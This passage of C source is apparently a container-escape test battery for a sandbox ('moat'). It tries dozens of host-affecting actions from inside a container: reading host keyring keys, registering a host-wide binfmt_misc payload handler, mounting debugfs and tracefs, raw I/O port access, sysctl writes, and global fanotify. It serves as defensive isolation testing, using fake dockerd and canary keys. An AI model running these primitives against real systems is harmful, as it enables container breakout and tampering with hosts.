	/* The key is in host root's user keyring, which container root shares
	 * when it is host root. runc gives the container a session keyring of
	 * its own, so link the user keyring into it: the key is then possessed. */
	if (syscall(SYS_keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING) < 0)
		return refused(d, "keyctl(LINK) the user keyring into the session keyring");
	id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", desc, 0);
	if (id < 0)
		return refused(d, "keyctl(SEARCH) for the host's key");
	n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof(buf) - 1);
	if (n < 0)
		return refused(d, "keyctl(READ)");
	buf[n < (long)sizeof(buf) ? n : (long)sizeof(buf) - 1] = '\0';
	return say(d, "read host root's key %s: %s", desc, buf);
}

static int a_iopl(char *d)
{
	if (iopl(3) < 0)
		return refused(d, "iopl(3)");
	return say(d, "iopl(3): raw access to every I/O port");
}

static int a_ioperm(char *d)
{
	if (ioperm(0x70, 2, 1) < 0)
		return refused(d, "ioperm(0x70, 2)");
	return say(d, "ioperm: the CMOS/RTC ports are ours");
}

static int a_perf_event_system(char *d)
{
	struct perf_event_attr a;
	int fd;

	memset(&a, 0, sizeof(a));
	a.size = sizeof(a);
	a.type = PERF_TYPE_SOFTWARE;
	a.config = PERF_COUNT_SW_CPU_CLOCK;
	a.disabled = 1;
	fd = syscall(SYS_perf_event_open, &a, -1, 0, -1, 0);
	if (fd < 0)
		return refused(d, "perf_event_open(pid=-1, cpu=0)");
	return say(d, "opened a system-wide perf event on cpu 0");
}

static int a_settimeofday(char *d)
{
	struct timeval tv;

	gettimeofday(&tv, NULL);
	if (settimeofday(&tv, NULL) < 0)
		return refused(d, "settimeofday(now)");
	return say(d, "set the host's clock (to the current time)");
}

static int bump(char *d, const char *knob, const char *what)
{
	char buf[64];

	if (read_str(knob, buf, sizeof(buf)) < 0)
		return refused(d, knob);
	snprintf(buf, sizeof(buf), "%ld", atol(buf) + 1);
	if (write_str(knob, O_TRUNC, buf) < 0)
		return refused(d, knob);
	return say(d, "set the host's %s to %s", what, buf);
}

static int a_sysfs_write(char *d)
{
	const char *knob = env_or("ESC_SYSFS_KNOB", "/sys/kernel/mm/ksm/pages_to_scan");

	return bump(d, knob, knob);
}

static int a_sysctl_kernel(char *d)
{
	return bump(d, "/proc/sys/kernel/printk_ratelimit_burst", "kernel.printk_ratelimit_burst");
}

static int a_drop_caches(char *d)
{
	if (write_str("/proc/sys/vm/drop_caches", 0, "1") < 0)
		return refused(d, "write /proc/sys/vm/drop_caches");
	return say(d, "dropped the host's page cache");
}

static int a_debugfs_mount(char *d)
{
	DIR *dir;
	int n = 0;

	mkdir("/tmp/esc-debugfs", 0700);
	if (mount("debugfs", "/tmp/esc-debugfs", "debugfs", 0, NULL) < 0)
		return refused(d, "mount -t debugfs");
	dir = opendir("/tmp/esc-debugfs");
	while (dir && readdir(dir))
		n++;
	if (dir)
		closedir(dir);
	umount2("/tmp/esc-debugfs", MNT_DETACH);
	return say(d, "mounted debugfs (%d entries)", n - 2);
}

static int a_tracefs_mount(char *d)
{
	char line[64];

	mkdir("/tmp/esc-tracefs", 0700);
	if (mount("tracefs", "/tmp/esc-tracefs", "tracefs", 0, NULL) < 0)
		return refused(d, "mount -t tracefs");
	snprintf(line, sizeof(line), "moat-escape-trace-%s", tag());
	if (write_str("/tmp/esc-tracefs/trace_marker", 0, line) < 0) {
		refused(d, "write trace_marker");
		umount2("/tmp/esc-tracefs", MNT_DETACH);
		return BLOCKED;
	}
	umount2("/tmp/esc-tracefs", MNT_DETACH);
	return say(d, "mounted tracefs, wrote '%s' into the host's trace buffer", line);
}

static int a_binfmt_misc(char *d)
{
	char reg[600], cpath[256], hpath[512];

	if (write_payload("binfmt-misc", cpath, hpath, sizeof(cpath)) < 0)
		return refused(d, "write the payload");
	mkdir("/tmp/esc-binfmt", 0700);
	if (mount("binfmt_misc", "/tmp/esc-binfmt", "binfmt_misc", 0, NULL) < 0)
		return refused(d, "mount -t binfmt_misc");
	snprintf(reg, sizeof(reg), ":moatesc-%s:M::MOATESC-%s::%s:", tag(), tag(), hpath);
	if (write_str("/tmp/esc-binfmt/register", 0, reg) < 0) {
		refused(d, "register a binfmt_misc handler");
		umount2("/tmp/esc-binfmt", MNT_DETACH);
		return BLOCKED;
	}
	umount2("/tmp/esc-binfmt", MNT_DETACH);
	return say(d, "registered host-wide binfmt_misc handler moatesc-%s -> %s", tag(), hpath);
}

static int a_fanotify_global(char *d)
{
	int fd = fanotify_init(FAN_CLASS_CONTENT | FAN_CLOEXEC, O_RDONLY);

	if (fd < 0)
		return refused(d, "fanotify_init(FAN_CLASS_CONTENT)");
	if (fanotify_mark(fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN, AT_FDCWD, "/") < 0)
		return refused(d, "fanotify_mark(FAN_MARK_FILESYSTEM)");
	return say(d, "watching every open on the host's disk (filesystem-wide mark)");
}

/* ---- the battery ------------------------------------------------------------ */

struct attack {
	const char *name;
	int (*fn)(char *d);
};

static const struct attack attacks[] = {
	{ "bpf-map-list", a_bpf_map_list },
	{ "bpf-prog-load", a_bpf_prog_load },
	{ "mount-blockdev", a_mount_blockdev },
	{ "mknod-blockdev", a_mknod_blockdev },
	{ "blockdev-read", a_blockdev_read },
	{ "docker-sock-bind", a_docker_sock_bind },
	{ "docker-config-bind", a_docker_config_bind },
	{ "docker-sock-fd", a_docker_sock_fd },
	{ "docker-config-fd", a_docker_config_fd },
	{ "remount-rw", a_remount_rw },
	{ "mount-setattr-rw", a_mount_setattr_rw },
	{ "rebind-rw", a_rebind_rw },
	{ "open-tree-rw", a_open_tree_rw },
	{ "fspick-reconfigure", a_fspick_reconfigure },
	{ "umount-mask", a_umount_mask },
	{ "move-mask", a_move_mask },
	{ "bind-under-mask", a_bind_under_mask },
	{ "umount-emulated", a_umount_emulated },
	{ "setns-mnt-fd", a_setns_mnt_fd },
	{ "setns-net-fd", a_setns_net_fd },
	{ "setns-pidfd", a_setns_pidfd },
	{ "pidfd-getfd", a_pidfd_getfd },
	{ "cgroup-release-agent", a_cgroup_release_agent },
	{ "cgroup-host-write", a_cgroup_host_write },
	{ "cgroup-move-root", a_cgroup_move_root },
	{ "core-pattern", a_core_pattern },
	{ "sysrq-trigger", a_sysrq_trigger },
	{ "dev-mem", a_dev_mem },
	{ "dev-kmsg", a_dev_kmsg },
	{ "proc-kcore", a_proc_kcore },
	{ "syslog-read", a_syslog_read },
	{ "finit-module", a_finit_module },
	{ "init-module", a_init_module },
	{ "module-autoload-fs", a_module_autoload_fs },
	{ "module-autoload-net", a_module_autoload_net },
	{ "kexec-file-load", a_kexec_file_load },
	{ "kexec-load", a_kexec_load },
	{ "open-by-handle", a_open_by_handle },
	{ "keyctl-host-key", a_keyctl_host_key },
	{ "iopl", a_iopl },
	{ "ioperm", a_ioperm },
	{ "perf-event-system", a_perf_event_system },
	{ "settimeofday", a_settimeofday },
	{ "sysfs-write", a_sysfs_write },
	{ "sysctl-kernel", a_sysctl_kernel },
	{ "drop-caches", a_drop_caches },
	{ "debugfs-mount", a_debugfs_mount },
	{ "tracefs-mount", a_tracefs_mount },
	{ "binfmt-misc", a_binfmt_misc },
	{ "fanotify-global", a_fanotify_global },
};

#define N_ATTACKS (sizeof(attacks) / sizeof(attacks[0]))

/* Run attack i in a child (its own process state, a time limit); print its line. */
static void run_one(size_t i)
{
	char line[DETAIL_LEN + 64], detail[DETAIL_LEN] = "";
	int pfd[2], status;
	ssize_t n = 0, r;
	pid_t pid;

	if (pipe2(pfd, O_CLOEXEC) < 0) {
		printf("%s blocked: harness: pipe: %s\n", attacks[i].name, strerror(errno));
		return;
	}
	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		char comm[16];
		int res;

		close(pfd[0]);
		snprintf(comm, sizeof(comm), "esc-%02zu", i);
		prctl(PR_SET_NAME, comm);
		alarm(30);
		errno = 0;
		res = attacks[i].fn(detail);
		flatten(detail);
		snprintf(line, sizeof(line), "%s %s: %s\n", attacks[i].name,
			 res == OK ? "ok" : "blocked", detail);
		(void)!write(pfd[1], line, strlen(line));
		_exit(0);
	}
	close(pfd[1]);
	if (pid < 0) {
		printf("%s blocked: harness: fork: %s\n", attacks[i].name, strerror(errno));
		close(pfd[0]);
		return;
	}
	while (n < (ssize_t)sizeof(line) - 1 && (r = read(pfd[0], line + n, sizeof(line) - 1 - n)) > 0)
		n += r;
	close(pfd[0]);
	line[n] = '\0';
	waitpid(pid, &status, 0);
	if (n > 0) {
		fputs(line, stdout);
	} else if (WIFSIGNALED(status)) {
		printf("%s error: the attack's process died of signal %d\n", attacks[i].name,
		       WTERMSIG(status));
	} else {
		printf("%s error: the attack's process said nothing (exit %d)\n", attacks[i].name,
		       WEXITSTATUS(status));
	}
	fflush(stdout);
}

static int find_attack(const char *name)
{
	for (size_t i = 0; i < N_ATTACKS; i++)
		if (!strcmp(attacks[i].name, name))
			return (int)i;
	return -1;
}

/* ---- host-side helpers ------------------------------------------------------ */

static int serve(const char *sock, const char *dockerdir, const char *token, const char *target)
{
	char dsock[4096], reply[256];
	int ctl = unix_listen(sock, 0666), dock, t, fds[5];
	const char *names[] = { "mnt", "net", "uts", "pidfd", "dockerdir" };

	snprintf(dsock, sizeof(dsock), "%s/docker.sock", dockerdir);
	dock = unix_listen(dsock, 0666);
	if (ctl < 0 || dock < 0) {
		perror("escape serve: listen");
		return 1;
	}
	t = open(target, O_WRONLY | O_APPEND | O_CREAT, 0644);
	if (t < 0 || dup2(t, HELD_FD) < 0) {
		perror("escape serve: target");
		return 1;
	}
	fds[0] = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
	fds[1] = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
	fds[2] = open("/proc/self/ns/uts", O_RDONLY | O_CLOEXEC);
	fds[3] = syscall(SYS_pidfd_open, getpid(), 0);
	fds[4] = open(dockerdir, O_PATH | O_DIRECTORY | O_CLOEXEC);
	for (int i = 0; i < 5; i++)
		if (fds[i] < 0) {
			fprintf(stderr, "escape serve: %s: %s\n", names[i], strerror(errno));
			return 1;
		}
	snprintf(reply, sizeof(reply), "moat-fake-dockerd %s", token);
	signal(SIGPIPE, SIG_IGN);
	for (;;) {
		struct pollfd p[2] = { { ctl, POLLIN, 0 }, { dock, POLLIN, 0 } };
		char req[32];
		ssize_t r;
		int c;

		if (poll(p, 2, -1) < 0)
			continue;
		if (p[1].revents & POLLIN) {
			c = accept4(dock, NULL, NULL, SOCK_CLOEXEC);
			if (c >= 0) {
				(void)!write(c, reply, strlen(reply));
				close(c);
			}
		}
		if (!(p[0].revents & POLLIN))
			continue;
		c = accept4(ctl, NULL, NULL, SOCK_CLOEXEC);
		if (c < 0)
			continue;
		r = read(c, req, sizeof(req) - 1);
		req[r > 0 ? r : 0] = '\0';
		for (int i = 0; i < 5; i++)
			if (!strcmp(req, names[i]))
				(void)send_fd(c, fds[i]);
		close(c);
	}
}

static int key_add(const char *desc, const char *data)
{
	long id = syscall(SYS_add_key, "user", desc, data, strlen(data), KEY_SPEC_USER_KEYRING);

	if (id < 0) {
		perror("escape key-add");
		return 1;
	}
	printf("%ld\n", id);
	return 0;
}

static int key_del(const char *desc)
{
	long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", desc, 0);

	if (id < 0)
		return errno == ENOKEY ? 0 : (perror("escape key-del"), 1);
	if (syscall(SYS_keyctl, KEYCTL_UNLINK, id, KEY_SPEC_USER_KEYRING) < 0) {
		perror("escape key-del");
		return 1;
	}
	return 0;
}

static int usage(void)
{
	fprintf(stderr, "usage: escape all [--then-sleep] | run NAME... | list\n"
			"       escape serve SOCK DOCKERDIR TOKEN TARGET | key-add DESC DATA | "
			"key-del DESC\n");
	return 2;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return usage();
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(argv[1], "all")) {
		for (size_t i = 0; i < N_ATTACKS; i++)
			run_one(i);
		printf("END\n");
		fflush(stdout);
		if (argc > 2 && !strcmp(argv[2], "--then-sleep"))
			for (;;)
				pause();
		return 0;
	}
	if (!strcmp(argv[1], "run") && argc > 2) {
		for (int a = 2; a < argc; a++) {
			int i = find_attack(argv[a]);

			if (i < 0) {
				fprintf(stderr, "escape: no attack %s\n", argv[a]);
				return 2;
			}
			run_one((size_t)i);
		}
		return 0;
	}
	if (!strcmp(argv[1], "list")) {
		for (size_t i = 0; i < N_ATTACKS; i++)
			printf("%02zu %s\n", i, attacks[i].name);
		return 0;
	}
	if (!strcmp(argv[1], "serve") && argc == 6)
		return serve(argv[2], argv[3], argv[4], argv[5]);
	if (!strcmp(argv[1], "key-add") && argc == 4)
		return key_add(argv[2], argv[3]);
	if (!strcmp(argv[1], "key-del") && argc == 3)
		return key_del(argv[2]);
	return usage();
}
